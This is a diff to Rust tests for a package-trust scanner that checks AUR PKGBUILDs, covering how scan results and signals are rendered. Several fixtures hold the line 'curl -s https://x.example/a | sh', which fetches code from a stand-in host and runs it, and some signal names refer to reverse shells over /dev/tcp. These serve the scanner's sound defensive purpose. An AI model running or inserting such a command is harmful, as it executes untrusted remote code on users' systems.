@@ -1,10 +1,10 @@
 //! E2E tests for scan output formatting.
 //!
-//! Verifies the exact text output produced by `write_text` for every tier,
+//! Verifies the exact text output produced by `render` (text format) for every tier,
 //! ensuring signal details are always shown regardless of tier.
 
-use traur::shared::output;
-use traur::shared::scoring::{ScanResult, Signal, SignalCategory, Tier};
+use traur::shared::output::{self, OutputFormat, RenderOptions};
+use traur::shared::scoring::{ScanResult, Signal, SignalCategory, SourceLocation, Tier, SCHEMA_VERSION};
 
 fn make_signal(id: &str, category: SignalCategory, points: u32, description: &str, override_gate: bool) -> Signal {
     Signal {
@@ -14,6 +14,8 @@ fn make_signal(id: &str, category: SignalCategory, points: u32, description: &st
         description: description.to_string(),
         is_override_gate: override_gate,
         matched_line: None,
+        location: None,
+        emitted_by: String::new(),
     }
 }
 
@@ -25,13 +27,15 @@ fn make_signal_with_line(id: &str, category: SignalCategory, points: u32, descri
         description: description.to_string(),
         is_override_gate: override_gate,
         matched_line: Some(line.to_string()),
+        location: None,
+        emitted_by: String::new(),
     }
 }
 
 fn render(result: &ScanResult, verbose: bool) -> String {
     colored::control::set_override(false);
     let mut buf = Vec::new();
-    output::write_text(&mut buf, result, verbose);
+    output::render(&mut buf, result, OutputFormat::Text, &RenderOptions { verbose, ..Default::default() });
     String::from_utf8(buf).unwrap()
 }
 
@@ -40,11 +44,18 @@ fn render(result: &ScanResult, verbose: bool) -> String {
 #[test]
 fn trusted_no_signals() {
     let result = ScanResult {
+        schema_version: SCHEMA_VERSION,
         package: "yay".to_string(),
         score: 100,
         tier: Tier::Trusted,
         signals: vec![],
         override_gate_fired: None,
+        category_scores: Default::default(),
+        skipped_features: Vec::new(),
+        pkgbuild_diff: None,
+        note: None,
+        demoted_gates: Vec::new(),
+        analysis_completeness: Default::default(),
     };
     let out = render(&result, false);
     assert_eq!(out, "\
@@ -57,6 +68,7 @@ traur: yay (trust: 100/100)
 #[test]
 fn trusted_with_signals() {
     let result = ScanResult {
+        schema_version: SCHEMA_VERSION,
         package: "eww".to_string(),
         score: 92,
         tier: Tier::Trusted,
@@ -65,6 +77,12 @@ fn trusted_with_signals() {
             make_signal("M-VOTES-LOW", SignalCategory::Metadata, 5, "Low vote count", false),
         ],
         override_gate_fired: None,
+        category_scores: Default::default(),
+        skipped_features: Vec::new(),
+        pkgbuild_diff: None,
+        note: None,
+        demoted_gates: Vec::new(),
+        analysis_completeness: Default::default(),
     };
     let out = render(&result, false);
     assert_eq!(out, "\
@@ -78,9 +96,31 @@ traur: eww (trust: 92/100)
 
 // ---------- OK ----------
 
+#[test]
+fn ok_new_package_grace_note() {
+    let signals = vec![
+        make_signal("M-VOTES-ZERO", SignalCategory::Metadata, 100, "Package has zero votes", false),
+        make_signal("B-MAINTAINER-NEW", SignalCategory::Behavioral, 100, "Maintainer has only 1 package, created recently", false),
+        make_signal("T-NEW-PACKAGE", SignalCategory::Temporal, 100, "Package is very new (< 7 days old)", false),
+    ];
+    let mut result = traur::shared::scoring::compute_score("fresh-tool", &signals);
+    result.category_scores = Default::default();
+    let out = render(&result, false);
+    assert_eq!(out, "\
+traur: fresh-tool (trust: 45/100)
+  Trust: OK
+   i New package with nothing flagged in its PKGBUILD: every signal is about its newness, so the tier is capped at OK
+  Negative signals:
+    !! M-VOTES-ZERO: Package has zero votes
+    !! B-MAINTAINER-NEW: Maintainer has only 1 package, created recently
+    !! T-NEW-PACKAGE: Package is very new (< 7 days old)
+");
+}
+
 #[test]
 fn ok_with_signals() {
     let result = ScanResult {
+        schema_version: SCHEMA_VERSION,
         package: "some-tool".to_string(),
         score: 70,
         tier: Tier::Ok,
@@ -89,6 +129,12 @@ fn ok_with_signals() {
             make_signal("P-WGET-DOWNLOAD", SignalCategory::Pkgbuild, 35, "Downloads file with wget", false),
         ],
         override_gate_fired: None,
+        category_scores: Default::default(),
+        skipped_features: Vec::new(),
+        pkgbuild_diff: None,
+        note: None,
+        demoted_gates: Vec::new(),
+        analysis_completeness: Default::default(),
     };
     let out = render(&result, false);
     assert_eq!(out, "\
@@ -105,6 +151,7 @@ traur: some-tool (trust: 70/100)
 #[test]
 fn sketchy_with_signals() {
     let result = ScanResult {
+        schema_version: SCHEMA_VERSION,
         package: "sketchy-pkg".to_string(),
         score: 50,
         tier: Tier::Sketchy,
@@ -113,6 +160,12 @@ fn sketchy_with_signals() {
             make_signal("M-VOTES-ZERO", SignalCategory::Metadata, 20, "Zero votes", false),
         ],
         override_gate_fired: None,
+        category_scores: Default::default(),
+        skipped_features: Vec::new(),
+        pkgbuild_diff: None,
+        note: None,
+        demoted_gates: Vec::new(),
+        analysis_completeness: Default::default(),
     };
     let out = render(&result, false);
     assert_eq!(out, "\
@@ -129,6 +182,7 @@ traur: sketchy-pkg (trust: 50/100)
 #[test]
 fn suspicious_with_signals() {
     let result = ScanResult {
+        schema_version: SCHEMA_VERSION,
         package: "shady-bin".to_string(),
         score: 30,
         tier: Tier::Suspicious,
@@ -138,6 +192,12 @@ fn suspicious_with_signals() {
             make_signal("B-NAME-IMPERSONATE", SignalCategory::Behavioral, 65, "Name impersonates popular package", false),
         ],
         override_gate_fired: None,
+        category_scores: Default::default(),
+        skipped_features: Vec::new(),
+        pkgbuild_diff: None,
+        note: None,
+        demoted_gates: Vec::new(),
+        analysis_completeness: Default::default(),
     };
     let out = render(&result, false);
     assert_eq!(out, "\
@@ -155,6 +215,7 @@ traur: shady-bin (trust: 30/100)
 #[test]
 fn malicious_with_override_gate() {
     let result = ScanResult {
+        schema_version: SCHEMA_VERSION,
         package: "evil-tool".to_string(),
         score: 5,
         tier: Tier::Malicious,
@@ -163,6 +224,12 @@ fn malicious_with_override_gate() {
             make_signal("P-RAW-IP-URL", SignalCategory::Pkgbuild, 30, "Source URL uses raw IP address", false),
         ],
         override_gate_fired: Some("P-CURL-PIPE".to_string()),
+        category_scores: Default::default(),
+        skipped_features: Vec::new(),
+        pkgbuild_diff: None,
+        note: None,
+        demoted_gates: Vec::new(),
+        analysis_completeness: Default::default(),
     };
     let out = render(&result, false);
     assert_eq!(out, "\
@@ -178,6 +245,7 @@ traur: evil-tool (trust: 5/100)
 #[test]
 fn malicious_no_signals_only_gate() {
     let result = ScanResult {
+        schema_version: SCHEMA_VERSION,
         package: "backdoor".to_string(),
         score: 10,
         tier: Tier::Malicious,
@@ -185,6 +253,12 @@ fn malicious_no_signals_only_gate() {
             make_signal("P-REVSHELL-DEVTCP", SignalCategory::Pkgbuild, 90, "Reverse shell via /dev/tcp", true),
         ],
         override_gate_fired: Some("P-REVSHELL-DEVTCP".to_string()),
+        category_scores: Default::default(),
+        skipped_features: Vec::new(),
+        pkgbuild_diff: None,
+        note: None,
+        demoted_gates: Vec::new(),
+        analysis_completeness: Default::default(),
     };
     let out = render(&result, false);
     assert_eq!(out, "\
@@ -201,6 +275,7 @@ traur: backdoor (trust: 10/100)
 #[test]
 fn verbose_shows_matched_lines() {
     let result = ScanResult {
+        schema_version: SCHEMA_VERSION,
         package: "test-pkg".to_string(),
         score: 45,
         tier: Tier::Sketchy,
@@ -212,6 +287,12 @@ fn verbose_shows_matched_lines() {
             make_signal("M-VOTES-ZERO", SignalCategory::Metadata, 20, "Zero votes", false),
         ],
         override_gate_fired: Some("P-CURL-PIPE".to_string()),
+        category_scores: Default::default(),
+        skipped_features: Vec::new(),
+        pkgbuild_diff: None,
+        note: None,
+        demoted_gates: Vec::new(),
+        analysis_completeness: Default::default(),
     };
     let out = render(&result, true);
     assert_eq!(out, "\
@@ -228,6 +309,7 @@ traur: test-pkg (trust: 45/100)
 #[test]
 fn verbose_without_matched_line_shows_nothing_extra() {
     let result = ScanResult {
+        schema_version: SCHEMA_VERSION,
         package: "test-pkg".to_string(),
         score: 85,
         tier: Tier::Trusted,
@@ -235,6 +317,12 @@ fn verbose_without_matched_line_shows_nothing_extra() {
             make_signal("M-NEW-PACKAGE", SignalCategory::Metadata, 10, "Package is less than 6 months old", false),
         ],
         override_gate_fired: None,
+        category_scores: Default::default(),
+        skipped_features: Vec::new(),
+        pkgbuild_diff: None,
+        note: None,
+        demoted_gates: Vec::new(),
+        analysis_completeness: Default::default(),
     };
     let verbose_out = render(&result, true);
     let normal_out = render(&result, false);
@@ -242,11 +330,92 @@ fn verbose_without_matched_line_shows_nothing_extra() {
     assert_eq!(verbose_out, normal_out);
 }
 
+#[test]
+fn verbose_shows_pkgbuild_diff_hunks() {
+    let result = ScanResult {
+        schema_version: SCHEMA_VERSION,
+        package: "diff-pkg".to_string(),
+        score: 60,
+        tier: Tier::Sketchy,
+        signals: vec![make_signal_with_line(
+            "T-DIFF-NEW-SUSPICIOUS", SignalCategory::Temporal, 40, "Newly introduced suspicious pattern", false,
+            "curl -s https://x.example/a | sh",
+        )],
+        override_gate_fired: None,
+        category_scores: Default::default(),
+        skipped_features: Vec::new(),
+        pkgbuild_diff: Some("@@ -1,2 +1,3 @@\n pkgver=1.0\n-pkgrel=1\n+pkgrel=2\n+  curl -s https://x.example/a | sh\n".to_string()),
+        note: None,
+        demoted_gates: Vec::new(),
+        analysis_completeness: Default::default(),
+    };
+    let out = render(&result, true);
+    assert_eq!(out, "\
+traur: diff-pkg (trust: 60/100)
+  Trust: SKETCHY
+  Negative signals:
+     ! T-DIFF-NEW-SUSPICIOUS: Newly introduced suspicious pattern
+         > curl -s https://x.example/a | sh
+  PKGBUILD changes since baseline:
+       @@ -1,2 +1,3 @@
+        pkgver=1.0
+       -pkgrel=1
+       +pkgrel=2
+     ! +  curl -s https://x.example/a | sh
+");
+    // Hunks are verbose-only.
+    assert!(!render(&result, false).contains("@@"));
+}
+
+#[test]
+fn verbose_shows_context_around_located_line() {
+    let content: std::sync::Arc<str> = "pkgname=x\npkgver=1\nbuild() {\n  make\n  curl -s https://x.example/a | sh\n}\n".into();
+    let mut signal = make_signal_with_line(
+        "P-CURL-PIPE", SignalCategory::Pkgbuild, 90, "curl piped to shell", true,
+        "curl -s https://x.example/a | sh",
+    );
+    signal.location = SourceLocation::find(&content, "curl -s https://x.example/a | sh");
+    let result = ScanResult {
+        schema_version: SCHEMA_VERSION,
+        package: "ctx-pkg".to_string(),
+        score: 0,
+        tier: Tier::Malicious,
+        signals: vec![signal],
+        override_gate_fired: None,
+        category_scores: Default::default(),
+        skipped_features: Vec::new(),
+        pkgbuild_diff: None,
+        note: None,
+        demoted_gates: Vec::new(),
+        analysis_completeness: Default::default(),
+    };
+    let out = render(&result, true);
+    assert_eq!(out, "\
+traur: ctx-pkg (trust: 0/100)
+  Trust: MALICIOUS
+  Negative signals:
+    !! P-CURL-PIPE: curl piped to shell
+            3 | build() {
+            4 |   make
+       >    5 |   curl -s https://x.example/a | sh
+            6 | }
+");
+}
+
+#[test]
+fn full_pipeline_locates_matched_lines() {
+    let pkgbuild = "pkgname=x\npkgver=1\npkgrel=1\nbuild() {\n  curl -s https://x.example/a | sh\n}\n";
+    let result = traur::coordinator::scan_pkgbuild("x", pkgbuild);
+    let curl = result.signals.iter().find(|s| s.id == "P-CURL-PIPE").expect("P-CURL-PIPE fires");
+    assert_eq!(curl.location.as_ref().map(|l| l.line), Some(4));
+}
+
 // ---------- Signal prefix severity levels ----------
 
 #[test]
 fn signal_prefix_levels() {
     let result = ScanResult {
+        schema_version: SCHEMA_VERSION,
         package: "prefix-test".to_string(),
         score: 20,
         tier: Tier::Malicious,
@@ -261,6 +430,12 @@ fn signal_prefix_levels() {
             make_signal("LOW", SignalCategory::Metadata, 10, "low severity", false),
         ],
         override_gate_fired: Some("GATE".to_string()),
+        category_scores: Default::default(),
+        skipped_features: Vec::new(),
+        pkgbuild_diff: None,
+        note: None,
+        demoted_gates: Vec::new(),
+        analysis_completeness: Default::default(),
     };
     let out = render(&result, false);
     // Verify each prefix level
@@ -270,7 +445,7 @@ fn signal_prefix_levels() {
     assert!(out.contains("       LOW: low severity"), "low severity should have    prefix");
 }
 
-// ---------- Full pipeline e2e (scan_pkgbuild -> write_text) ----------
+// ---------- Full pipeline e2e (scan_pkgbuild -> render) ----------
 
 #[test]
 fn full_pipeline_trusted_shows_signals() {
@@ -309,3 +484,113 @@ fn full_pipeline_malicious_shows_all_signals() {
         assert!(out.contains(&signal.id), "signal {} must appear in output", signal.id);
     }
 }
+
+#[test]
+fn breakdown_shows_per_category_bars() {
+    let signals = vec![
+        make_signal("P-A", SignalCategory::Pkgbuild, 80, "a", false),
+        make_signal("P-B", SignalCategory::Pkgbuild, 80, "b", false),
+        make_signal("M-A", SignalCategory::Metadata, 20, "c", false),
+    ];
+    let result = traur::shared::scoring::compute_score("pkg", &signals);
+    let out = render(&result, false);
+
+    assert!(out.contains("  Breakdown:"), "should show breakdown header");
+    assert!(out.contains("    Metadata      [##--------]  3.0/15 (raw 20)"), "got:\n{out}");
+    assert!(out.contains("    Pkgbuild      [##########] 45.0/45 (raw 160)"), "got:\n{out}");
+    assert!(!out.contains("Temporal"), "categories without signals are omitted");
+}
+
+#[test]
+fn demoted_gates_are_listed() {
+    let signals = vec![make_signal("P-CURL-PIPE", SignalCategory::Pkgbuild, 95, "curl output piped to shell", false)];
+    let mut result = traur::shared::scoring::compute_score("pkg", &signals);
+    result.demoted_gates = vec!["P-CURL-PIPE".to_string()];
+    let out = render(&result, false);
+
+    assert!(out.contains("   i Override gates demoted by config: P-CURL-PIPE"), "got:\n{out}");
+    assert!(!out.contains("Override gate fired"), "got:\n{out}");
+}
+
+#[test]
+fn incomplete_analysis_is_shown_under_the_tier() {
+    let mut result = traur::shared::scoring::compute_score("pkg", &[]);
+    result.analysis_completeness.unavailable = vec!["PKGBUILD".to_string(), "git log".to_string()];
+    traur::shared::scoring::floor_incomplete(&mut result);
+    let out = render(&result, false);
+
+    assert!(out.starts_with("traur: pkg (trust: 100/100)\n  Trust: SKETCHY\n  !! Incomplete analysis, unavailable: PKGBUILD, git log\n"), "got:\n{out}");
+    assert!(out.contains("Not fully analyzed (no PKGBUILD, no git log)"), "got:\n{out}");
+
+    let mut buf = Vec::new();
+    output::render(&mut buf, &result, OutputFormat::Json, &RenderOptions::default());
+    let json: serde_json::Value = serde_json::from_slice(&buf).unwrap();
+    assert_eq!(json["analysis_completeness"]["unavailable"][0], "PKGBUILD");
+}
+
+#[test]
+fn explain_score_shows_the_math_in_text_and_json() {
+    let signals = vec![
+        make_signal("P-A", SignalCategory::Pkgbuild, 80, "a", false),
+        make_signal("P-B", SignalCategory::Pkgbuild, 55, "b", false),
+        make_signal("M-A", SignalCategory::Metadata, 15, "c", false),
+    ];
+    let result = traur::shared::scoring::compute_score("pkg", &signals);
+    let opts = RenderOptions { explain_score: true, ..Default::default() };
+    colored::control::set_override(false);
+    let mut buf = Vec::new();
+    output::render(&mut buf, &result, OutputFormat::Text, &opts);
+    let out = String::from_utf8(buf).unwrap();
+
+    assert!(out.contains("  Score math:\n    Metadata      raw  15 -> capped  15 x 0.15 =   2.25\n    Pkgbuild      raw 135 -> capped 100 x 0.45 =  45.00\n"), "got:\n{out}");
+    assert!(out.contains("    Weighted risk: 47.25, rounded to 47\n    Trust: 100 - 47 = 53 -> SKETCHY\n    Final: 53/100, SKETCHY\n"), "got:\n{out}");
+    assert!(!render(&result, false).contains("Score math"));
+
+    let mut buf = Vec::new();
+    output::render(&mut buf, &result, OutputFormat::Json, &opts);
+    let json: serde_json::Value = serde_json::from_slice(&buf).unwrap();
+    assert_eq!(json["package"], "pkg");
+    assert_eq!(json["score_explanation"]["weighted_risk"], 47);
+    assert_eq!(json["category_scores"]["Pkgbuild"]["capped"], 100);
+    assert_eq!(json["category_scores"]["Pkgbuild"]["weight"], 0.45);
+
+    let mut buf = Vec::new();
+    output::render(&mut buf, &result, OutputFormat::Json, &RenderOptions::default());
+    let json: serde_json::Value = serde_json::from_slice(&buf).unwrap();
+    assert!(json.get("score_explanation").is_none());
+}
+
+#[test]
+fn json_includes_category_scores() {
+    let signals = vec![make_signal("B-A", SignalCategory::Behavioral, 40, "a", false)];
+    let result = traur::shared::scoring::compute_score("pkg", &signals);
+    let mut buf = Vec::new();
+    output::render(&mut buf, &result, OutputFormat::Json, &RenderOptions::default());
+    let json: serde_json::Value = serde_json::from_slice(&buf).unwrap();
+
+    assert_eq!(json["category_scores"]["Behavioral"]["raw"], 40);
+    assert_eq!(json["category_scores"]["Behavioral"]["weighted"], 10.0);
+}
+
+#[test]
+fn text_report_in_catalog_language() {
+    let catalog = Box::leak(Box::new(traur::shared::i18n::Catalog::load("de").unwrap()));
+    let signals = vec![
+        make_signal("M-NO-URL", SignalCategory::Metadata, 10, "No upstream URL provided", false),
+        make_signal("P-SOME-SIGNAL", SignalCategory::Pkgbuild, 20, "Not translated", false),
+    ];
+    let result = traur::shared::scoring::compute_score("pkg", &signals);
+    colored::control::set_override(false);
+    let mut buf = Vec::new();
+    output::render(&mut buf, &result, OutputFormat::Text, &RenderOptions { catalog: Some(catalog), ..Default::default() });
+    let out = String::from_utf8(buf).unwrap();
+
+    assert!(out.contains("(Vertrauen: "), "got:\n{out}");
+    assert!(out.contains("  Negative Signale:"), "got:\n{out}");
+    assert!(out.contains("M-NO-URL: Keine Upstream-URL angegeben"), "got:\n{out}");
+    assert!(out.contains("P-SOME-SIGNAL: Not translated"), "untranslated text stays English");
+
+    let mut buf = Vec::new();
+    output::render(&mut buf, &result, OutputFormat::Json, &RenderOptions { catalog: Some(catalog), ..Default::default() });
+    assert!(String::from_utf8(buf).unwrap().contains("No upstream URL provided"), "JSON stays English");
+}